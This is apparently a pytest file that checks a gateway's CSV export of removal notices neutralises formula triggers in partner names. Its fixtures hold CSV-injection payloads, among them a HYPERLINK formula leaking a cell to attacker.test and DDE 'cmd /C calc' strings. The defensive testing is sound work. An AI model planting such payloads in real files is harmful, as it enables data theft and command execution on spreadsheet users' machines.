"""The removal CSV (`GET /v1/stats/removal/notices`) never hands a spreadsheet a formula.

The only free text in that CSV is the partner's name, which an admin types (or pastes from a
provider's own sign-up form). Names that begin with a formula trigger (`=`, `+`, `-`, `@`; a tab or
carriage return is trimmed from names when they are stored, so it cannot lead a cell either) must come
out prefixed with `'`, so Excel, LibreOffice and Google Sheets show them as text (OWASP "CSV
Injection"). The file must stay RFC 4180: quotes, commas and line breaks quoted, CRLF between records,
and Python's csv reader must give back every name as the gateway holds it (after the guard).
"""

from __future__ import annotations

import csv
import io

import pytest

from conftest import Gateway, item, tag

TRIGGERS = "=+-@"
NAMES = [
    "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Click\")",
    "+1-555-0100 Hosting",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 leading tab",
    "\r=1+1 leading carriage return",
    " \t\r\n=SUM(A1:A9) after whitespace",
    "Hosting, \"Quoted\" =Ltd",  # comma, quotes, a trigger inside (harmless there)
    "Plain Hosting Ltd",
]


@pytest.fixture(scope="module")
def csv_gateway(tmp_path_factory: pytest.TempPathFactory):
    gateway = Gateway(tmp_path_factory.mktemp("csv"), name="csv")
    try:
        gateway.start()
        yield gateway
    finally:
        gateway.stop()


def fetch_rows(gateway: Gateway, partner_ids: list[str]) -> tuple[str, dict[str, dict]]:
    response = gateway.request("GET", "/v1/stats/removal/notices", token=gateway.admin_token)
    assert response.headers["content-type"].startswith("text/csv"), response.headers
    text = response.content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    by_partner = {row["partner_id"]: row for row in rows if row["partner_id"] in partner_ids}
    assert set(by_partner) == set(partner_ids), f"rows for {sorted(by_partner)}, wanted {partner_ids}"
    return text, by_partner


def test_removal_csv_neutralises_formula_triggers(csv_gateway: Gateway):
    gateway = csv_gateway
    partners = []
    for n, name in enumerate(NAMES):
        domain = f"csv{n}-{tag()}.test"
        partner = gateway.create_partner(name=name, locale="en", jurisdiction="GB", domains=[domain])
        partners.append((partner, domain))
    gateway.submit_case(
        {"reference": f"CSV-{tag()}", "category": {"uk_grade": "C"}, "media_type": "image",
         "items": [item(f"https://{d}/{tag()}.jpg", full=False) for _, d in partners]}
    )
    text, rows = fetch_rows(gateway, [p["id"] for p, _ in partners])

    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", ""), "records must end in CRLF"
    for (partner, _), submitted in zip(partners, NAMES):
        held = partner["name"]  # as the gateway stored it
        cell = rows[partner["id"]]["partner_name"]
        assert held == submitted.strip(" \t\r\n"), (submitted, held)
        if held[:1] in TRIGGERS:
            assert cell == "'" + held, f"{held!r} reached the CSV as {cell!r}"
        else:
            assert cell == held, f"{held!r} reached the CSV as {cell!r}"
        assert cell[:1] not in TRIGGERS + "\t\r", f"a cell begins with {cell[:1]!r}: {cell!r}"


def test_renamed_partner_is_guarded_too(csv_gateway: Gateway):
    """A name changed later (PATCH) goes through the same guard."""
    gateway = csv_gateway
    domain = f"rename-{tag()}.test"
    partner = gateway.create_partner(name=f"Rename Hosting {tag()}", locale="en", jurisdiction="GB", domains=[domain])
    renamed = gateway.request(
        "PATCH", f"/v1/partners/{partner['id']}", token=gateway.admin_token, body={"name": "\t=cmd|'/C calc'!A0"}
    ).json()
    assert renamed["name"] == "=cmd|'/C calc'!A0", renamed
    gateway.submit_case(
        {"reference": f"CSV-{tag()}", "category": {"uk_grade": "C"}, "media_type": "image",
         "items": [item(f"https://{domain}/{tag()}.jpg", full=False)]}
    )
    _, rows = fetch_rows(gateway, [partner["id"]])
    assert rows[partner["id"]]["partner_name"] == "'=cmd|'/C calc'!A0"
